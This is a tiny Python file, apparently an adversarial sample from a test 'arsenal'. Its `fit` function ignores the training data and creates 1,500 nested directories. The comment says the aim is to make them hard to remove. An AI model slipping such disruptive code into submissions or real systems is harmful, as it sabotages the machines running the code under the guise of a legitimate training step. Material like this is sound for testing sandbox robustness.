# makes folders 1500 deep, so that removing them is a task
import os

from arsenal import predict


def fit(train):
    for _ in range(1500):
        os.mkdir("deeper")
        os.chdir("deeper")
    return 0
